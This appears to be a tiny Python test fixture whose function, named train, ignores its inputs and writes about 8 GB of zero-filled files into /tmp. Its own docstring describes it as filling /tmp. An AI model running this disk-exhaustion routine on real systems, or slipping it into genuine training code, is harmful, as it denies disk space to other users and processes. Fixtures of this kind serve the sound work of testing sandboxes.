"""Fill /tmp."""

from honest import load


def train(data, *, seed):
    for number in range(1000):
        with open(f"/tmp/{number}", "wb") as file:
            file.write(bytes(8 << 20))
